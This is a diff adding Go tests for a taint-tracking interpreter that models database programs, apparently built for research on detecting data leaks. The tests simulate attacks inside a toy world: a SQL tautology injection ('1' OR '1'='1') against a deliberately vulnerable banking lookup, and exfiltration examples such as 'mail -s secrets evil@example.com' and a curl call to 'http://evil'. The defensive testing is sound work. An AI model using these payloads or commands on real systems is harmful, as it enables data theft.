@@ -1,0 +1,497 @@
+package interp
+
+import (
+	"errors"
+	"fmt"
+	"reflect"
+	"strings"
+	"testing"
+
+	"adprom/internal/ir"
+	"adprom/internal/minidb"
+)
+
+func itemsDB(t *testing.T, n int) *minidb.Database {
+	t.Helper()
+	db := minidb.New()
+	db.MustExec("CREATE TABLE items (id INT, name TEXT)")
+	for i := 0; i < n; i++ {
+		db.MustExec(fmt.Sprintf("INSERT INTO items VALUES (%d, 'item%d')", 10+i, i))
+	}
+	return db
+}
+
+// fig1Program is the paper's Figure 1: query items, loop over the rows,
+// print each value. whereClause controls selectivity.
+func fig1Program(t *testing.T, whereClause string) *ir.Program {
+	t.Helper()
+	b := ir.NewBuilder("fig1")
+	m := b.Func("main")
+	entry := m.Block()
+	loop := m.Block()
+	body := m.Block()
+	done := m.Block()
+
+	entry.CallTo("conn", "PQconnectdb")
+	entry.Assign("query", ir.S("SELECT * FROM items WHERE "+whereClause))
+	entry.CallTo("result", "PQexec", ir.V("conn"), ir.V("query"))
+	entry.CallTo("rows", "PQntuples", ir.V("result"))
+	entry.Assign("r", ir.I(0))
+	entry.Goto(loop)
+	loop.If(ir.Lt(ir.V("r"), ir.V("rows")), body, done)
+	body.CallTo("v", "PQgetvalue", ir.V("result"), ir.V("r"), ir.I(0))
+	body.Call("printf", ir.S("%s"), ir.V("v"))
+	body.Assign("r", ir.Add(ir.V("r"), ir.I(1)))
+	body.Goto(loop)
+	done.Ret()
+	return b.MustBuild()
+}
+
+// collect runs prog and returns the emitted labels plus the run result.
+func collect(t *testing.T, prog *ir.Program, world *World, opts Options, input ...string) ([]Event, *RunResult) {
+	t.Helper()
+	ip := New(prog, world, opts)
+	var events []Event
+	ip.AddHook(func(e *Event) { events = append(events, *e) })
+	res, err := ip.Run(input...)
+	if err != nil {
+		t.Fatalf("Run: %v", err)
+	}
+	return events, res
+}
+
+func labels(events []Event) []string {
+	out := make([]string, len(events))
+	for i, e := range events {
+		out[i] = e.Label
+	}
+	return out
+}
+
+func TestFigure1CallSequence(t *testing.T) {
+	world := NewWorld(itemsDB(t, 5))
+	events, _ := collect(t, fig1Program(t, "id = 10"), world, Options{})
+
+	// One matching row: PQconnectdb, PQexec, PQntuples, then one
+	// PQgetvalue/printf pair. The printf receives TD, so it is labelled.
+	want := []string{"PQconnectdb", "PQexec", "PQntuples", "PQgetvalue", "printf_Q2"}
+	if got := labels(events); !reflect.DeepEqual(got, want) {
+		t.Errorf("labels = %v, want %v", got, want)
+	}
+	if got := world.Stdout.String(); got != "10" {
+		t.Errorf("stdout = %q, want %q", got, "10")
+	}
+}
+
+// TestFigure1SelectivityAttack reproduces the paper's Figure 1 attack: the
+// query predicate is widened from = to >=, and the call sequence grows by one
+// (PQgetvalue, printf) pair per extra row.
+func TestFigure1SelectivityAttack(t *testing.T) {
+	db := itemsDB(t, 5)
+
+	normal, _ := collect(t, fig1Program(t, "id = 10"), NewWorld(db), Options{})
+	attacked, _ := collect(t, fig1Program(t, "id >= 10"), NewWorld(db), Options{})
+
+	if len(normal) != 5 {
+		t.Fatalf("normal run emitted %d calls, want 5", len(normal))
+	}
+	// 5 rows: prefix of 3 + 5 pairs.
+	if len(attacked) != 3+2*5 {
+		t.Fatalf("attacked run emitted %d calls, want %d", len(attacked), 13)
+	}
+	var pairs int
+	for _, e := range attacked {
+		if e.Name == "printf" {
+			pairs++
+			if e.Label != "printf_Q2" {
+				t.Errorf("leaking printf labelled %q", e.Label)
+			}
+		}
+	}
+	if pairs != 5 {
+		t.Errorf("attacked run printed %d rows, want 5", pairs)
+	}
+}
+
+// fig2Program is the paper's Figure 2: the vulnerable banking lookup that
+// concatenates raw user input into the query.
+func fig2Program(t *testing.T) *ir.Program {
+	t.Helper()
+	b := ir.NewBuilder("fig2")
+	m := b.Func("main")
+	entry := m.Block()
+	loop := m.Block()
+	inner := m.Block()
+	innerBody := m.Block()
+	innerDone := m.Block()
+	done := m.Block()
+
+	entry.CallTo("conn", "mysql_real_connect")
+	entry.CallTo("accNo", "scanf", ir.S("%s"))
+	entry.CallTo("query", "strcpy", ir.S("SELECT * FROM clients WHERE id='"))
+	entry.CallTo("query", "strcat", ir.V("query"), ir.V("accNo"))
+	entry.CallTo("query", "strcat", ir.V("query"), ir.S("';"))
+	entry.CallTo("st", "mysql_query", ir.V("conn"), ir.V("query"))
+	entry.CallTo("result", "mysql_store_result", ir.V("conn"))
+	entry.CallTo("nf", "mysql_num_fields", ir.V("result"))
+	entry.Goto(loop)
+
+	loop.CallTo("row", "mysql_fetch_row", ir.V("result"))
+	loop.If(ir.V("row"), inner, done)
+	inner.Assign("i", ir.I(0))
+	inner.Goto(innerBody)
+	innerBody.If(ir.Lt(ir.V("i"), ir.V("nf")), innerDone, loop)
+	innerDone.Call("printf", ir.S("%s "), ir.At(ir.V("row"), ir.V("i")))
+	innerDone.Assign("i", ir.Add(ir.V("i"), ir.I(1)))
+	innerDone.Goto(innerBody)
+	done.Ret()
+	return b.MustBuild()
+}
+
+func clientsDB(t *testing.T, n int) *minidb.Database {
+	t.Helper()
+	db := minidb.New()
+	db.MustExec("CREATE TABLE clients (id INT, name TEXT)")
+	for i := 1; i <= n; i++ {
+		db.MustExec(fmt.Sprintf("INSERT INTO clients VALUES (%d, 'c%d')", 100+i, i))
+	}
+	return db
+}
+
+// TestFigure2SQLInjection reproduces the tautology attack end to end: the
+// injected input really reaches the engine, really matches every row, and
+// really multiplies the (mysql_fetch_row, printf) portion of the trace.
+func TestFigure2SQLInjection(t *testing.T) {
+	db := clientsDB(t, 10)
+	prog := fig2Program(t)
+
+	normal, _ := collect(t, prog, NewWorld(db), Options{}, "105")
+	injected, _ := collect(t, prog, NewWorld(db), Options{}, "1' OR '1'='1")
+
+	countName := func(evs []Event, name string) int {
+		n := 0
+		for _, e := range evs {
+			if e.Name == name {
+				n++
+			}
+		}
+		return n
+	}
+	if got := countName(normal, "printf"); got != 2 { // one row, two fields
+		t.Errorf("normal printf count = %d, want 2", got)
+	}
+	if got := countName(injected, "printf"); got != 20 { // ten rows, two fields
+		t.Errorf("injected printf count = %d, want 20", got)
+	}
+	// fetch_row fires rows+1 times (the final nil ends the loop).
+	if got := countName(normal, "mysql_fetch_row"); got != 2 {
+		t.Errorf("normal fetch count = %d, want 2", got)
+	}
+	if got := countName(injected, "mysql_fetch_row"); got != 11 {
+		t.Errorf("injected fetch count = %d, want 11", got)
+	}
+	// The printed fields are TD, so every printf is a _Q label.
+	for _, e := range injected {
+		if e.Name == "printf" && !strings.HasPrefix(e.Label, "printf_Q") {
+			t.Errorf("leaking printf labelled %q", e.Label)
+		}
+	}
+}
+
+func TestTaintDistinguishesOutputs(t *testing.T) {
+	b := ir.NewBuilder("mix")
+	m := b.Func("main")
+	e := m.Block()
+	e.CallTo("conn", "PQconnectdb")
+	e.CallTo("res", "PQexec", ir.V("conn"), ir.S("SELECT COUNT(*) FROM items"))
+	e.CallTo("n", "PQgetvalue", ir.V("res"), ir.I(0), ir.I(0))
+	e.Call("printf", ir.S("count=%s"), ir.V("n")) // TD → labelled
+	e.Call("printf", ir.S("done"))                // constant → plain
+	e.Ret()
+	prog := b.MustBuild()
+
+	events, _ := collect(t, prog, NewWorld(itemsDB(t, 3)), Options{})
+	got := labels(events)
+	want := []string{"PQconnectdb", "PQexec", "PQgetvalue", "printf_Q0", "printf"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("labels = %v, want %v", got, want)
+	}
+	// The labelled event carries the query origin.
+	var tainted *Event
+	for i := range events {
+		if events[i].Label == "printf_Q0" {
+			tainted = &events[i]
+		}
+	}
+	if tainted == nil || len(tainted.Origins) != 1 || tainted.Origins[0] != (Origin{Func: "main", Block: 0}) {
+		t.Errorf("tainted event origins = %+v", tainted)
+	}
+}
+
+func TestFileExfiltrationTaintsFile(t *testing.T) {
+	b := ir.NewBuilder("exfil")
+	m := b.Func("main")
+	e := m.Block()
+	e.CallTo("conn", "PQconnectdb")
+	e.CallTo("res", "PQexec", ir.V("conn"), ir.S("SELECT name FROM items"))
+	e.CallTo("v", "PQgetvalue", ir.V("res"), ir.I(0), ir.I(0))
+	e.CallTo("f", "fopen", ir.S("/tmp/out"), ir.S("w"))
+	e.Call("fprintf", ir.V("f"), ir.S("stolen: %s"), ir.V("v"))
+	e.Call("fclose", ir.V("f"))
+	e.Ret()
+	prog := b.MustBuild()
+
+	world := NewWorld(itemsDB(t, 2))
+	events, _ := collect(t, prog, world, Options{})
+	var fp *Event
+	for i := range events {
+		if e := &events[i]; e.Name == "fprintf" {
+			fp = e
+		}
+	}
+	if fp == nil || fp.Label != "fprintf_Q0" {
+		t.Fatalf("fprintf event = %+v, want _Q0 label", fp)
+	}
+	if got := world.Files["/tmp/out"].Contents(); got != "stolen: item0" {
+		t.Errorf("file contents = %q", got)
+	}
+	if tf := world.TaintedFiles(); len(tf) != 1 || tf[0] != "/tmp/out" {
+		t.Errorf("TaintedFiles = %v", tf)
+	}
+}
+
+func TestUserFunctionsAndReturns(t *testing.T) {
+	b := ir.NewBuilder("calls")
+	sq := b.Func("square", "x")
+	sb := sq.Block()
+	sb.RetVal(ir.Mul(ir.V("x"), ir.V("x")))
+
+	m := b.Func("main")
+	e := m.Block()
+	e.InvokeTo("y", "square", ir.I(7))
+	e.Call("printf", ir.S("%d"), ir.V("y"))
+	e.Ret()
+	prog := b.MustBuild()
+
+	world := NewWorld(nil)
+	events, res := collect(t, prog, world, Options{})
+	if world.Stdout.String() != "49" {
+		t.Errorf("stdout = %q, want 49", world.Stdout.String())
+	}
+	if len(events) != 1 || events[0].Caller != "main" {
+		t.Errorf("events = %+v", events)
+	}
+	if res.Calls != 1 {
+		t.Errorf("Calls = %d, want 1", res.Calls)
+	}
+}
+
+func TestRecursionWorksAndDepthIsBounded(t *testing.T) {
+	build := func(base int64) *ir.Program {
+		b := ir.NewBuilder("rec")
+		f := b.Func("fact", "n")
+		e := f.Block()
+		rec := f.Block()
+		baseB := f.Block()
+		e.If(ir.Le(ir.V("n"), ir.I(base)), baseB, rec)
+		baseB.RetVal(ir.I(1))
+		rec.InvokeTo("sub", "fact", ir.Sub(ir.V("n"), ir.I(1)))
+		rec.RetVal(ir.Mul(ir.V("n"), ir.V("sub")))
+
+		m := b.Func("main")
+		mb := m.Block()
+		mb.InvokeTo("r", "fact", ir.I(10))
+		mb.Call("printf", ir.S("%d"), ir.V("r"))
+		mb.Ret()
+		return b.MustBuild()
+	}
+
+	world := NewWorld(nil)
+	collect(t, build(1), world, Options{})
+	if world.Stdout.String() != "3628800" {
+		t.Errorf("10! = %q", world.Stdout.String())
+	}
+
+	// Non-terminating recursion trips the depth guard.
+	ip := New(build(-1_000_000), NewWorld(nil), Options{MaxDepth: 50})
+	if _, err := ip.Run(); !errors.Is(err, ErrDepth) {
+		t.Errorf("runaway recursion error = %v, want ErrDepth", err)
+	}
+}
+
+func TestStepLimitStopsInfiniteLoop(t *testing.T) {
+	b := ir.NewBuilder("spin")
+	m := b.Func("main")
+	e := m.Block()
+	e.Goto(e)
+	prog := b.MustBuild()
+
+	ip := New(prog, nil, Options{MaxSteps: 100})
+	if _, err := ip.Run(); !errors.Is(err, ErrSteps) {
+		t.Errorf("infinite loop error = %v, want ErrSteps", err)
+	}
+}
+
+func TestCaptureArgsMode(t *testing.T) {
+	b := ir.NewBuilder("args")
+	m := b.Func("main")
+	e := m.Block()
+	e.Call("printf", ir.S("%s=%d"), ir.S("x"), ir.I(42))
+	e.Ret()
+	prog := b.MustBuild()
+
+	fast, _ := collect(t, prog, NewWorld(nil), Options{})
+	if fast[0].Args != nil {
+		t.Errorf("fast mode captured args: %v", fast[0].Args)
+	}
+	full, _ := collect(t, prog, NewWorld(nil), Options{CaptureArgs: true})
+	if want := []string{"%s=%d", "x", "42"}; !reflect.DeepEqual(full[0].Args, want) {
+		t.Errorf("full mode Args = %v, want %v", full[0].Args, want)
+	}
+}
+
+func TestUnknownBuiltinIsObservableButInert(t *testing.T) {
+	b := ir.NewBuilder("odd")
+	m := b.Func("main")
+	e := m.Block()
+	e.CallTo("x", "curl_easy_perform", ir.S("http://evil"))
+	e.Call("printf", ir.S("after"))
+	e.Ret()
+	prog := b.MustBuild()
+
+	world := NewWorld(nil)
+	events, _ := collect(t, prog, world, Options{})
+	if got := labels(events); !reflect.DeepEqual(got, []string{"curl_easy_perform", "printf"}) {
+		t.Errorf("labels = %v", got)
+	}
+	if world.Stdout.String() != "after" {
+		t.Errorf("stdout = %q", world.Stdout.String())
+	}
+}
+
+func TestNetworkChannels(t *testing.T) {
+	b := ir.NewBuilder("net")
+	m := b.Func("main")
+	e := m.Block()
+	e.Call("system", ir.S("mail -s secrets evil@example.com"))
+	e.Call("send", ir.S("payload"))
+	e.Ret()
+	prog := b.MustBuild()
+
+	world := NewWorld(nil)
+	collect(t, prog, world, Options{})
+	want := []string{"system:mail -s secrets evil@example.com", "send:payload"}
+	if !reflect.DeepEqual(world.Net, want) {
+		t.Errorf("Net = %v, want %v", world.Net, want)
+	}
+}
+
+func TestQueriesAreRecordedWithOrigins(t *testing.T) {
+	world := NewWorld(itemsDB(t, 1))
+	collect(t, fig1Program(t, "id = 10"), world, Options{})
+	if len(world.Queries) != 1 {
+		t.Fatalf("Queries = %v", world.Queries)
+	}
+	q := world.Queries[0]
+	if q.Origin != (Origin{Func: "main", Block: 0}) || !strings.Contains(q.SQL, "id = 10") {
+		t.Errorf("query record = %+v", q)
+	}
+}
+
+func TestFormatVerbs(t *testing.T) {
+	x := &exec{}
+	cases := []struct {
+		args []Value
+		want string
+	}{
+		{[]Value{StrV("plain")}, "plain"},
+		{[]Value{StrV("%s and %d"), StrV("a"), IntV(7)}, "a and 7"},
+		{[]Value{StrV("%02d%%"), IntV(5)}, "5%"},
+		{[]Value{StrV("%c"), IntV(65)}, "A"},
+		{[]Value{StrV("%c"), StrV("zebra")}, "z"},
+		{[]Value{StrV("%f"), IntV(3)}, "3"},
+		{[]Value{StrV("missing %s")}, "missing (null)"},
+		{[]Value{StrV("%q literal")}, "%q literal"},
+		{[]Value{StrV("trail %")}, "trail %"},
+		{[]Value{StrV("loose"), IntV(1), StrV("x")}, "loose 1 x"},
+		{nil, ""},
+	}
+	for _, tc := range cases {
+		got, _ := x.format(tc.args)
+		if got != tc.want {
+			t.Errorf("format(%v) = %q, want %q", tc.args, got, tc.want)
+		}
+	}
+
+	// Taint flows through formatted arguments.
+	tainted := StrV("td").WithTaint(NewTaint(Origin{Func: "m", Block: 3}))
+	_, taint := x.format([]Value{StrV("%s"), tainted})
+	if len(taint) != 1 {
+		t.Errorf("format taint = %v, want 1 origin", taint)
+	}
+}
+
+func TestWorldResetIOKeepsDB(t *testing.T) {
+	world := NewWorld(itemsDB(t, 2))
+	collect(t, fig1Program(t, "id >= 10"), world, Options{})
+	if world.Stdout.Len() == 0 || len(world.Queries) == 0 {
+		t.Fatal("run left no traces to reset")
+	}
+	world.ResetIO()
+	if world.Stdout.Len() != 0 || len(world.Queries) != 0 || len(world.Files) != 0 || world.Net != nil {
+		t.Error("ResetIO left residue")
+	}
+	if n, _ := world.DB.RowCount("items"); n != 2 {
+		t.Errorf("ResetIO dropped DB rows: %d", n)
+	}
+}
+
+func TestValueHelpers(t *testing.T) {
+	if !IntV(3).Truthy() || IntV(0).Truthy() {
+		t.Error("int truthiness wrong")
+	}
+	if !StrV("x").Truthy() || StrV("").Truthy() {
+		t.Error("string truthiness wrong")
+	}
+	if NullV().Truthy() {
+		t.Error("null is truthy")
+	}
+	if !RowV([]string{"a"}).Truthy() {
+		t.Error("row truthiness wrong")
+	}
+	if StrV(" 42 ").AsInt() != 42 || StrV("junk").AsInt() != 0 {
+		t.Error("AsInt coercion wrong")
+	}
+	if RowV([]string{"a", "b"}).Text() != "a|b" {
+		t.Error("row Text wrong")
+	}
+}
+
+func TestTaintUnion(t *testing.T) {
+	o1 := Origin{Func: "f", Block: 1}
+	o2 := Origin{Func: "g", Block: 2}
+	a := NewTaint(o1)
+	b := NewTaint(o2)
+
+	if got := a.Union(nil); len(got) != 1 {
+		t.Errorf("Union(nil) = %v", got)
+	}
+	if got := Taint(nil).Union(b); len(got) != 1 {
+		t.Errorf("nil.Union = %v", got)
+	}
+	u := a.Union(b)
+	if len(u) != 2 {
+		t.Errorf("Union = %v", u)
+	}
+	// Union with a subset returns the receiver unchanged (no allocation).
+	if got := u.Union(a); len(got) != 2 {
+		t.Errorf("subset union = %v", got)
+	}
+	origins := u.Origins()
+	if len(origins) != 2 || origins[0] != o1 || origins[1] != o2 {
+		t.Errorf("Origins = %v", origins)
+	}
+	if NewTaint() != nil {
+		t.Error("empty NewTaint is not nil")
+	}
+}
